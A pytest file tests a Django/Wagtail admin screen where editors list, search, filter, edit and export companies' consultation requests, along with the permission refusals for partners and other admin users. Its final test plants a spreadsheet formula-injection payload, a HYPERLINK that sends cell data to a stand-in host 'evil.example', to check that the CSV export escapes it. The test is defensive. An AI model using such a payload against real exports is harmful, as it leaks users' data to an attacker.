"""The Consultations screen: editors list companies' requests, filter them by status, search,
read one with its answers, move it along (status, assignee, note) and export the list. Partners
and other admin users never reach it; nobody adds, copies or deletes a request there."""

import csv
import io

import pytest
from django.contrib.auth.models import Group, Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import dateformat, translation
from django.utils.timezone import localtime
from wagtail.users.models import UserProfile

from booking.models import PartnerOrganisation
from tests.factories import (
    ConsultationFormFieldFactory,
    ConsultationFormPageFactory,
    UserFactory,
)
from tests.html import soup
from workation.models.forms import ConsultationSubmission
from workation.services.partners import ensure_editors_group

pytestmark = pytest.mark.django_db

INDEX = "consultations:index"


def answers(company: str, email: str, message: str = "5名で1週間") -> dict:
    return {"company": company, "email": email, "message": message}


@pytest.fixture
def form_page(home):
    page = ConsultationFormPageFactory(parent=home, slug="consultation")
    for order, (label, name) in enumerate(
        [("会社名", "company"), ("メールアドレス", "email"), ("ご相談内容", "message")]
    ):
        ConsultationFormFieldFactory(page=page, label=label, clean_name=name, sort_order=order)
    return page


@pytest.fixture
def people():
    """An editor (who reads the admin in English), a partner organisation's member, and an
    admin user of neither."""
    access = Permission.objects.get(codename="access_admin")
    editor = UserFactory(username="editor", groups=[ensure_editors_group()])
    profile = UserProfile.get_for_user(editor)
    profile.preferred_language = "en"
    profile.save()
    partner_group = Group.objects.create(name="Partner: A農園")
    partner_group.permissions.add(access)
    PartnerOrganisation.objects.create(name="A農園", group=partner_group)
    partner = UserFactory(username="partner", groups=[partner_group])
    stranger = UserFactory(username="stranger")
    stranger.user_permissions.add(access)
    return {"editor": editor, "partner": partner, "stranger": stranger}


@pytest.fixture
def requests_(form_page):
    return {
        "new": ConsultationSubmission.objects.create(
            page=form_page, form_data=answers("株式会社テスト", "tanaka@example.co.jp")
        ),
        "done": ConsultationSubmission.objects.create(
            page=form_page,
            form_data=answers("南紀商事", "sato@example.jp"),
            status=ConsultationSubmission.Status.DONE,
            note="10月の視察で案内済み",
        ),
    }


def signed_in(client, user):
    client.force_login(user)
    return client


def rows(response) -> list[str]:
    return [
        row.get_text(" ", strip=True) for row in soup(response).select("table.listing tbody tr")
    ]


def assert_refused(client, method: str, url: str, data: dict | None = None):
    """Wagtail's admin sends a refused page to the dashboard with a message (a script gets 403),
    showing nothing of the request."""
    response = getattr(client, method)(url, data or {})
    assert response.status_code == 302 and response.url == reverse("wagtailadmin_home"), url
    script = getattr(client, method)(url, data or {}, HTTP_X_REQUESTED_WITH="XMLHttpRequest")
    assert script.status_code == 403, url
    assert "株式会社テスト" not in script.content.decode()


def test_an_editor_lists_every_request_with_its_status(client, people, requests_):
    response = signed_in(client, people["editor"]).get(reverse(INDEX))

    assert response.status_code == 200
    listed = rows(response)
    assert len(listed) == 2
    assert "株式会社テスト" in listed[1] and "New" in listed[1]
    assert "南紀商事" in listed[0] and "Done" in listed[0]  # newest first


def test_an_editor_filters_by_status(client, people, requests_):
    client = signed_in(client, people["editor"])

    response = client.get(reverse(INDEX), {"status": "done"})

    listed = rows(response)
    assert len(listed) == 1 and "南紀商事" in listed[0]


@pytest.mark.parametrize(
    ("query", "found", "not_found"),
    [
        ("株式会社テスト", "株式会社テスト", "南紀商事"),
        ("tanaka@example", "株式会社テスト", "南紀商事"),
        ("視察", "南紀商事", "株式会社テスト"),
    ],
    ids=["japanese-answer", "e-mail", "note"],
)
def test_an_editor_searches_answers_and_notes(client, people, requests_, query, found, not_found):
    response = signed_in(client, people["editor"]).get(reverse(INDEX), {"q": query})

    assert response.status_code == 200
    listed = " ".join(rows(response))
    assert found in listed and not_found not in listed


def test_an_editor_reads_a_request_with_each_question_and_answer(client, people, requests_):
    request = requests_["new"]

    response = signed_in(client, people["editor"]).get(
        reverse("consultations:inspect", args=[request.pk])
    )

    assert response.status_code == 200
    terms = [dt.get_text(strip=True) for dt in soup(response).find_all("dt")]
    values = [dd.get_text(strip=True) for dd in soup(response).find_all("dd")]
    assert terms[-3:] == ["会社名", "メールアドレス", "ご相談内容"]
    assert values[-3:] == ["株式会社テスト", "tanaka@example.co.jp", "5名で1週間"]
    tokyo = localtime(request.submit_time)
    # The time in Tokyo, not UTC, in the admin's 24- or 12-hour form ("21:05", or as Django
    # writes it in English: "9:05 p.m.", "noon", "midnight").
    with translation.override("en"):
        twelve_hour = dateformat.format(tokyo, "P")
    shown = {tokyo.strftime("%H:%M"), twelve_hour}
    assert any(form in values[0] for form in shown), values[0]


def test_an_editor_takes_a_request_on_and_only_its_follow_up_fields_change(
    client, people, requests_
):
    request = requests_["new"]
    before = request.updated_at
    client = signed_in(client, people["editor"])

    response = client.post(
        reverse("consultations:edit", args=[request.pk]),
        {
            "status": "in_progress",
            "assignee": people["editor"].pk,
            "note": "来週お電話",
            "form_data": '{"company": "改ざん"}',
        },
    )

    assert response.status_code == 302
    request.refresh_from_db()
    assert request.status == ConsultationSubmission.Status.IN_PROGRESS
    assert request.assignee == people["editor"]
    assert request.note == "来週お電話"
    assert request.form_data["company"] == "株式会社テスト"
    assert request.updated_at > before


def test_only_people_who_may_answer_can_be_assigned(client, people, requests_):
    response = signed_in(client, people["editor"]).get(
        reverse("consultations:edit", args=[requests_["new"].pk])
    )
    options = {
        option.get_text(strip=True)
        for option in soup(response).find("select", attrs={"name": "assignee"}).find_all("option")
    }
    assert any("editor" in option for option in options)
    assert not any("partner" in option or "stranger" in option for option in options)

    refused = signed_in(client, people["editor"]).post(
        reverse("consultations:edit", args=[requests_["new"].pk]),
        {"status": "new", "assignee": people["partner"].pk, "note": ""},
    )
    assert refused.status_code == 200
    requests_["new"].refresh_from_db()
    assert requests_["new"].assignee is None


def test_nobody_adds_copies_or_deletes_a_request_here(client, people, requests_):
    client = signed_in(client, people["editor"])
    request = requests_["new"]

    assert_refused(client, "get", reverse("consultations:add"))
    assert_refused(client, "post", reverse("consultations:delete", args=[request.pk]))
    assert ConsultationSubmission.objects.filter(pk=request.pk).exists()
    index = client.get(reverse(INDEX)).content.decode()
    assert reverse("consultations:add") not in index
    assert reverse("consultations:delete", args=[request.pk]) not in index


@pytest.mark.parametrize("who", ["partner", "stranger"])
def test_partners_and_other_admin_users_are_refused(client, people, requests_, who):
    client = signed_in(client, people[who])
    request = requests_["new"]

    for url in (
        reverse(INDEX),
        reverse(INDEX) + "?export=csv",
        reverse("consultations:inspect", args=[request.pk]),
        reverse("consultations:edit", args=[request.pk]),
    ):
        assert_refused(client, "get", url)
    edit = reverse("consultations:edit", args=[request.pk])
    assert_refused(client, "post", edit, {"status": "declined", "note": "x"})
    request.refresh_from_db()
    assert request.status == ConsultationSubmission.Status.NEW
    menu = client.get(reverse("wagtailadmin_home")).content.decode()
    assert reverse(INDEX) not in menu


def test_a_visitor_is_sent_to_log_in(client, requests_):
    response = client.get(reverse(INDEX))
    assert response.status_code == 302 and "login" in response["Location"]


def test_an_editor_exports_the_filtered_list_as_csv(client, people, requests_):
    done = requests_["done"]
    response = signed_in(client, people["editor"]).get(
        reverse(INDEX), {"export": "csv", "status": "done"}
    )

    assert response.status_code == 200
    assert "text/csv" in response["Content-Type"]
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    heading, *lines = list(csv.reader(io.StringIO(content)))
    assert heading == [
        "No.",
        "Submit time (JST)",
        "Form",
        "Status",
        "Assignee",
        "Internal note",
        "Updated (JST)",
        "Answers",
    ]
    assert len(lines) == 1
    number, received, form, status, _, note, _, answers_ = lines[0]
    assert number == str(done.pk) and form == done.page.title and status == "Done"
    assert received == localtime(done.submit_time).strftime("%Y-%m-%d %H:%M")  # Tokyo time
    assert note == "10月の視察で案内済み"
    assert answers_.splitlines()[0] == "会社名: 南紀商事"
    assert "tanaka" not in content


def test_the_list_runs_the_same_number_of_queries_for_many_requests(client, people, form_page):
    client = signed_in(client, people["editor"])
    ConsultationSubmission.objects.create(
        page=form_page, form_data=answers("一社", "a@example.jp"), assignee=people["editor"]
    )
    client.get(reverse(INDEX))  # warm the per-process caches (content types, settings)
    with CaptureQueriesContext(connection) as few:
        assert client.get(reverse(INDEX)).status_code == 200

    for n in range(15):
        ConsultationSubmission.objects.create(
            page=form_page,
            form_data=answers(f"会社{n}", f"c{n}@example.jp"),
            assignee=people["editor"],
            status=ConsultationSubmission.Status.IN_PROGRESS,
        )
    with CaptureQueriesContext(connection) as many:
        response = client.get(reverse(INDEX))

    assert len(rows(response)) == 16
    assert len(many) == len(few)


def test_the_export_runs_the_same_number_of_queries_for_many_requests(client, people, form_page):
    client = signed_in(client, people["editor"])
    ConsultationSubmission.objects.create(page=form_page, form_data=answers("一社", "a@example.jp"))

    def export() -> str:
        response = client.get(reverse(INDEX), {"export": "csv"})
        return b"".join(response.streaming_content).decode("utf-8-sig")

    export()
    with CaptureQueriesContext(connection) as few:
        export()
    for n in range(12):
        ConsultationSubmission.objects.create(
            page=form_page, form_data=answers(f"会社{n}", f"c{n}@example.jp")
        )
    with CaptureQueriesContext(connection) as many:
        content = export()
    assert "会社11" in content
    assert len(many) == len(few)


def test_the_form_pages_own_submissions_export_keeps_formula_like_answers_as_text(
    client, people, form_page
):
    """Wagtail's list of the page's submissions (reached from the page's panel) exports CSV too:
    an answer a spreadsheet would run as a formula is written as text (issue 14, 8)."""
    ConsultationSubmission.objects.create(
        page=form_page,
        form_data=answers('=HYPERLINK("http://evil.example/?"&A2,"click")', "+81@example.jp"),
    )
    response = signed_in(client, people["editor"]).get(
        reverse("wagtailforms:list_submissions", args=[form_page.pk]), {"export": "csv"}
    )

    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    _heading, row = list(csv.reader(io.StringIO(content)))
    assert '\'=HYPERLINK("http://evil.example/?"&A2,"click")' in row
    assert "'+81@example.jp" in row
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
